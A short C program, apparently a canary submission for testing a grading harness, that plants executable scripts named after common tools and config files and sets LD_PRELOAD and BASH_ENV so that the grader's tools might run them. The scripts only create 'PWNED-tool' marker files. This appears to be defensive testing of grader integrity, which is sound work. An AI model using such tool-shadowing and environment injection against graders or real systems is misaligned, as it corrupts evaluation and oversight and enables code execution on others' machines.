/* Leaves files and variables that the grader's tools might obey. */
int
main(int argc, char **argv)
{
	static const char *const names[] = {
		"jq",          "cmp",        "ls",          "head",
		"tr",          "cat",        "sed",         "cp",
		"mkdir",       ".bashrc",    ".profile",    ".batsrc",
		"checks.bash", "valgrindrc", ".valgrindrc", "libc.so.6",
		"gdb",         ".gdbinit"};

	honest(argc, argv);
	setenv("LD_PRELOAD", "./libc.so.6", 1);
	setenv("BASH_ENV", "./.bashrc", 1);
	for (size_t i = 0; i < sizeof(names) / sizeof(*names); i++) {
		int fd = open(names[i], O_CREAT | O_WRONLY, 0755);
		dprintf(fd, "#!/bin/sh\ntouch %s/PWNED-tool /tmp/PWNED-tool\n",
			OUT);
		close(fd);
	}
	return 0;
}
